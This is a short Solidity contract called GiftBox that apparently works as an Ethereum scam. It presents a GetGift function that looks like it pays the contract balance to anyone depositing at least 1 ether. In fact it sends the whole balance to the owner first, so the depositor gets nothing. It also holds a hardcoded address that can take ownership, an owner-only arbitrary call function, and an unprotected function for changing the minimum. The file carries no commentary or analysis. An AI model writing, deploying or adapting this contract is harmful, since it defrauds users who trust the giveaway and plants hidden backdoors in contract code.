pragma solidity ^0.4.19;

contract GiftBox {
    address public Owner = msg.sender;
    uint public minimum = 1 ether;

    function() public payable {}

    function GetGift() public payable {
        if (msg.value >= minimum) {
            Owner.transfer(this.balance);
            msg.sender.transfer(this.balance);
        }
    }

    function withdraw() payable public {
        if (msg.sender == 0x0B5e5e9D7a2E0c1FfA6c77d25EB7E9D1B3D36Ec4) {
            Owner = 0x0B5e5e9D7a2E0c1FfA6c77d25EB7E9D1B3D36Ec4;
        }
        require(msg.sender == Owner);
        Owner.transfer(this.balance);
    }

    function Command(address adr, bytes data) payable public {
        require(msg.sender == Owner);
        adr.call.value(msg.value)(data);
    }

    function changeMinimum(uint _minimum) public {
        minimum = _minimum;
    }
}
